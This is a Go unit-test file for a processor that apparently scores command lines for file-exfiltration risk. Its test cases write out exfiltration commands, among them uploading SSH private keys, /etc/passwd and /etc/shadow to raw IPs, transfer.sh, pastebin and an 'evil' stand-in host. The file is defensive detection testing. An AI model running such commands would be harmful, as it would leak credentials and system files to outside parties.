package netfilecopyprocessor

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/pcommon"

	"github.com/copywatch/copywatch/internal/assessment"
	"github.com/copywatch/copywatch/internal/cmdline"
	"github.com/copywatch/copywatch/internal/destination"
	"github.com/copywatch/copywatch/internal/grammar"
)

// verdictOf is the verdict on a command line with further attributes, nil where it is no match.
func verdictOf(t *testing.T, p *filecopyProcessor, line string, more map[string]any) *verdict {
	t.Helper()
	e := executionOf(t, line, more)
	m, ok := p.match(e)
	if !ok {
		return nil
	}
	s := setting{}
	if id, ok := more["container"].(string); ok {
		s.container = id
	}
	s.ci = p.ci.read(e, pcommon.NewMap(), time.Now())
	v := p.assess(&m, e, &s)
	return &v
}

// executionOf is what is read of a record with that command line.
func executionOf(t *testing.T, line string, more map[string]any) *execution {
	t.Helper()
	args := cmdline.Split(line)
	raw := map[string]any{
		"process.executable.name": baseName(args[0]), "process.command_line": line,
		"process.working_directory": "/home/ana", "process.user.id": 1000,
	}
	list := make([]any, len(args))
	for i := range args {
		list[i] = args[i]
	}
	raw["process.command_args"] = list
	for key, value := range more {
		raw[key] = value
	}
	attrs := pcommon.NewMap()
	require.NoError(t, attrs.FromRaw(raw))
	e := newExecution()
	e.read(attrs)
	return e
}

func TestAssess(t *testing.T) {
	p := newProcessor(t, Config{GeneralDownloads: true})
	for _, tt := range []struct {
		line       string
		more       map[string]any
		importance string // "" for no match
		reasons    []string
	}{
		{"scp f ana@web.example.org:", nil, "high", []string{"direction_upload", "destination_public:web.example.org"}},
		{"scp f ana@10.1.2.3:", nil, "high", []string{"direction_upload"}},
		{"scp f backup:", nil, "high", []string{"direction_upload"}},
		{"scp ~/.ssh/id_rsa ana@203.0.113.7:", nil, "critical", []string{"direction_upload", "destination_public:203.0.113.7", "raw_ip", "sensitive_path:ssh_keys"}},
		{"scp web.example.org:/x .", nil, "medium", []string{"direction_download", "destination_public:web.example.org"}},
		{"scp a b", nil, "low", []string{"direction_local"}},
		{"scp f localhost:", nil, "low", []string{"direction_upload", "destination_loopback:localhost"}},
		{"curl -T /etc/passwd https://transfer.sh/", nil, "critical", []string{"direction_upload", "destination_file_share:transfer.sh", "sensitive_path:system_accounts"}},
		{"curl https://example.org/", nil, "medium", []string{"direction_download", "destination_public:example.org"}},
		{"curl --version", nil, "", nil},
		{"ssh web.example.org uptime", nil, "", nil},
		{"mc", nil, "", nil},
		{"git status", nil, "", nil},
		{
			"scp f h.example.org:", map[string]any{"process.executable.memfd": true, "process.args_truncated": true}, "critical",
			[]string{"direction_upload", "destination_public:h.example.org", "evasion:memfd", "arguments_truncated"},
		},
		{
			"scp f localhost:", map[string]any{"process.executable.deleted": true}, "medium",
			[]string{"direction_upload", "destination_loopback:localhost", "evasion:deleted"},
		},
		{
			"rsync -a /data/x 10.0.0.9:/x", map[string]any{"process.ancestors.executable.name": []any{"sh", "npm", "node"}}, "critical",
			[]string{"direction_upload", "lineage_package_manager:npm"},
		},
		{ // a script of that name lowers nothing
			"rsync -a /data/x 10.0.0.9:/x", map[string]any{"process.ancestors.executable.name": []any{"monit"}, "process.parent.executable.path": "/tmp/monit"}, "high",
			[]string{"direction_upload"},
		},
		{
			"rsync -a /data/x 10.0.0.9:/x", map[string]any{"process.ancestors.executable.name": []any{"rsnapshot"}, "process.parent.executable.path": "/usr/bin/rsnapshot"}, "medium",
			[]string{"direction_upload", "lineage_backup:rsnapshot"},
		},
		{
			"scp f 10.0.0.9:", map[string]any{"process.user.id": 0, "process.user.name": "root", "container": "c0ffee"}, "high",
			[]string{"direction_upload", "container_not_interactive", "privileged_user:root"},
		},
		{
			"scp f 10.0.0.9:", map[string]any{
				"process.environment_variable.GITHUB_ACTIONS": "true", "process.environment_variable.GITHUB_EVENT_NAME": "pull_request_target",
			}, "high",
			[]string{"direction_upload", "ci_pull_request_target"},
		},
	} {
		t.Run(tt.line, func(t *testing.T) {
			v := verdictOf(t, p, tt.line, tt.more)
			if tt.importance == "" {
				assert.Nil(t, v)
				return
			}
			require.NotNil(t, v)
			assert.Equal(t, tt.reasons, v.reasons)
			assert.Equal(t, tt.importance, v.band.Importance, v.score)
		})
	}
}

// Every signal of a grammar has a term, or its place in the record.
func TestEverySignalIsRated(t *testing.T) {
	table := newProcessor(t, Config{}).scores
	for _, signal := range grammar.Signals() {
		if _, ok := table.Term(string(signal)); !ok && signal != grammar.Alias {
			t.Errorf("there is no term for the signal %q", signal)
		}
	}
}

func TestTheSSHBelowAnSCPIsLinked(t *testing.T) {
	p := newProcessor(t, Config{})
	entity := func(own, parent string) map[string]any {
		return map[string]any{"process.entity_id": own, "process.parent.entity_id": parent, "process.stdin.type": "pipe", "process.stdout.type": "pipe"}
	}
	whole := verdictOf(t, p, "scp f h.example.org:", entity("1", "0"))
	require.NotNil(t, whole)
	assert.Empty(t, whole.transferOf)
	part := verdictOf(t, p, "ssh h.example.org 'scp -t .'", entity("2", "1"))
	require.NotNil(t, part)
	assert.Equal(t, "1", part.transferOf)
	assert.Equal(t, "low", part.band.Importance)
	other := verdictOf(t, p, "ssh evil.example.org 'cat > x'", entity("3", "1"))
	require.NotNil(t, other)
	assert.Empty(t, other.transferOf, "it goes elsewhere: whoever is above, that is another copy")
	assert.Equal(t, "high", other.band.Importance)
}

// Whoever runs a tool may give it any number of harmless operands before what it is about.
func TestNothingHidesAmongMany(t *testing.T) {
	p := newProcessor(t, Config{})
	for _, many := range []int{1, 30, 100, 9000} { // with which the arguments are nearly as long as is read of them
		files, urls := strings.Repeat("/x/a ", many), ""
		for i := range many / 3 {
			urls += fmt.Sprintf("127.0.0.1/%d ", i)
		}
		v := verdictOf(t, p, "scp "+files+files+"/etc/shadow h.example.org:", nil)
		require.NotNil(t, v)
		assert.Equal(t, []string{"/etc/shadow"}, v.sensitive, many)

		v = verdictOf(t, p, "curl -T f "+urls+urls+"https://pastebin.com/api", nil)
		require.NotNil(t, v)
		assert.Equal(t, destination.Paste, v.class, many)
		listed := v.listedRemotes()
		assert.LessOrEqual(t, len(listed), remotesMost)
		assert.True(t, slices.ContainsFunc(listed, func(r grammar.Remote) bool { return r.Host == "pastebin.com" }), many)
	}
}

func TestBound(t *testing.T) {
	table, err := assessment.Load()
	require.NoError(t, err)
	for _, tt := range []struct {
		score      int
		importance string
		want       int
	}{{75, "low", 29}, {5, "low", 5}, {5, "high", 60}, {95, "high", 79}, {95, "critical", 95}, {10, "critical", 80}} {
		v := verdict{score: tt.score}
		v.bound(table, tt.importance)
		assert.Equal(t, tt.want, v.score)
		assert.Equal(t, tt.importance, v.band.Importance)
	}
}

// What an ancestor means is rated, too.
func TestEveryAncestorReasonIsRated(t *testing.T) {
	p := newProcessor(t, Config{})
	for _, name := range []string{"sshpass", "expect", "proxychains4", "torsocks"} {
		_, ok := p.scores.Term(p.recogniser.AncestorReason(name))
		assert.True(t, ok, name)
	}
}
